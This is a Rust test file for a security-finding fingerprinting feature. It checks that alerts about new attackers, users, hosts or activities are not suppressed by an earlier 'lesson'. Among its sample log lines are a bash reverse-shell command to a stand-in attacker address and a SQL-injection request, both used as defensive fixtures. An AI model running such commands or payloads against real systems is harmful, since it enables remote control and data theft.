use super::super::correlate::tests::subject;
use super::*;
use crate::finding::Category;

const KNOWN: [&str; 2] = [
    "Failed password for admin from 203.0.113.4 port 515 ssh2 host=web-01",
    "sshd: drop SRC=203.0.113.4 DST=192.0.2.10 asked dns 192.0.2.53",
];

fn of(title: &str, lines: &[&str]) -> Fingerprint {
    subject(Category::Intrusion, title, lines)
}

#[test]
fn known_names_are_covered() {
    let lesson = of("Brute force of admin", &KNOWN);
    for (title, lines) in [
        ("Brute force of admin", &KNOWN[..]),
        ("Password guessing", &KNOWN[..1]),
        (
            "Password guessing on web-01",
            &["10:02 Failed password for admin from 203.0.113.4 port 9 ssh2"],
        ),
        (
            "Brute force",
            &["Failed password for adrnin from 2O3.0.113.4 port 77 ssh2 host=web-0l"],
        ),
        (
            "Failed logins at 192.0.2.10",
            &["Failed login for user admin from 203.0.113.4 to 192.0.2.10"],
        ),
    ] {
        assert!(lesson.covers(&of(title, lines)), "{title} {lines:?}");
    }
}

#[test]
fn new_names_are_not_covered() {
    let lesson = of("Brute force of admin", &KNOWN);
    for (who, lines) in [
        (
            "another attacker",
            &["Failed password for admin from 203.0.113.45 port 515 ssh2 host=web-01"][..],
        ),
        (
            "of the same victim",
            &["sshd: drop SRC=198.51.100.7 DST=192.0.2.10 asked dns 192.0.2.53"],
        ),
        (
            "beside a known line",
            &[
                KNOWN[0],
                "Failed password for admin from 198.51.100.7 port 1 ssh2",
            ],
        ),
        (
            "another user",
            &["Failed password for root from 203.0.113.4 port 515 ssh2 host=web-01"],
        ),
        (
            "another user beside",
            &[
                KNOWN[0],
                "Failed password for root from 203.0.113.4 port 1 ssh2",
            ],
        ),
        (
            "another host",
            &["Failed password for admin from 203.0.113.4 port 515 ssh2 host=web-02"],
        ),
        (
            "another victim",
            &["Failed password for admin from 203.0.113.4 to 192.0.2.11 ssh2"],
        ),
        (
            "by name of IPv6",
            &["Failed password for admin from 2001:db8::7 port 515 ssh2 host=web-01"],
        ),
        (
            "the victim, who attacks now",
            &["Failed password for admin from 192.0.2.10 port 515 ssh2"],
        ),
        (
            "the resolver, who attacks now",
            &["Failed password for admin from 192.0.2.53 to 192.0.2.10"],
        ),
        (
            "another deed beside",
            &[KNOWN[0], "bash -i >& /dev/tcp/203.0.113.4/4444 0>&1"],
        ),
        (
            "an activity in folded letters",
            &[KNOWN[0], "GET /index.php?id=1 UNION SELECT name FROM users"],
        ),
        (
            "another deed",
            &["bash -i >& /dev/tcp/203.0.113.4/4444 0>&1"],
        ),
    ] {
        assert!(!lesson.covers(&of("Brute force of admin", lines)), "{who}");
    }
    let only_words = of("Brute force from 198.51.100.7 against 192.0.2.10", &KNOWN);
    assert!(!lesson.covers(&only_words), "only in words");
    let host = of("Brute force on db-07", &KNOWN);
    assert!(
        !lesson.covers(&host),
        "a host only in words, where hosts are known"
    );
}

#[test]
fn names_of_every_kind_count() {
    for (known, new) in [
        (
            "CVE-2024-3094 in xz-utils 5.6.1 found",
            "CVE-2023-4863 in xz-utils 5.6.1 found",
        ),
        (
            "CVE-2024-3094 in xz-utils 5.6.1 found",
            "CVE-2024-3094 and CVE-2023-4863 in xz-utils found",
        ),
        (
            "public bucket s3://fernhill-exports/ allows everyone",
            "public bucket s3://fernhill-payroll/ allows everyone",
        ),
        (
            "nmap run by login alice on jump host",
            "nmap run by login mallory on jump host",
        ),
        (
            "nmap port scan on host web-01 seen now",
            "nmap port scan on host web-02 seen now",
        ),
        (
            "scan 192.0.2.10 203.0.113.4 port scan denied",
            "scan 192.0.2.10 198.51.100.7 port scan denied",
        ),
    ] {
        let lesson = of("Found", &[known]);
        assert!(lesson.covers(&of("Found", &[known])), "{known}");
        assert!(!lesson.covers(&of("Found", &[new])), "{new}");
    }
}

#[test]
fn new_attacker_among_many_is_not_covered() {
    let crowd: Vec<String> = (1..=60)
        .map(|n| format!("Failed password for admin from 10.0.0.{n} port 22 ssh2"))
        .collect();
    let crowd: Vec<&str> = crowd.iter().map(String::as_str).collect();
    let lesson = of("Spray", &crowd[..40]);
    assert!(lesson.covers(&of("Spray", &crowd[10..20])));
    let mut lines = crowd[..40].to_vec();
    lines.extend(&crowd[..20]);
    lines.push("Failed password for admin from 198.51.100.7 port 22 ssh2");
    assert!(!lesson.covers(&of("Spray", &lines)));
}

#[test]
fn stored_suppression_keeps_roles() {
    let lesson = of("Brute force of admin", &KNOWN);
    let text = serde_json::to_string(&lesson).unwrap();
    let lesson: Fingerprint = serde_json::from_str(&text).unwrap();
    let turned = of(
        "Brute force",
        &["Failed password for admin from 192.0.2.10 port 515 ssh2"],
    );
    assert!(
        lesson
            .unknown_entity(&turned)
            .unwrap()
            .contains("another role")
    );
}

#[test]
fn likely_the_same_is_not_certain() {
    // Nothing to compare but the title: enough to join an incident, not to keep
    // an alert from people.
    let lesson = of("Unusual traffic seen on the network", &[]);
    let likely = of("Unusual traffic seen on the network", &[]);
    let same = lesson.similarity(&likely).expect("likely the same");
    assert!(!same.is_strong());
    assert!(!lesson.covers(&likely));
}
